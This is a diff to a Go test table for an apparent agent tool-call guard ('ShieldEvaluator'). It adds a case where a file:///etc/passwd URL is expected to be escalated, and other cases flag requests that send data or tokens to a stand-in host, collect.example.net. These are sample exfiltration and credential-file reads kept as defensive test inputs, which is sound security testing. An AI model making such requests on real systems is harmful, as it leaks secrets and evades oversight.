@@ -98,6 +98,7 @@ func TestShieldEvaluator_Tools(t *testing.T) {
 		{"POST to an unknown host", "http_request", `{"url":"https://collect.example.net/k","method":"POST","body":"hello"}`, "escalate policy:http-writes"},
 		{"GET with a long query", "http_request", `{"url":"https://collect.example.net/?d=` + longQuery + `"}`, "escalate exfiltration:data"},
 		{"GET with a token header", "http_request", `{"url":"https://collect.example.net/","headers":{"X-Token":"abc"}}`, "escalate exfiltration:data"},
+		{"a URL without a host", "http_request", `{"url":"file:///etc/passwd"}`, "escalate shell:unknown"},
 		{"command outside the workspace", "execute_command", `{"command":"ls","cwd":"/etc"}`, "escalate shell:unknown"},
 	} {
 		t.Run(c.name, func(t *testing.T) {
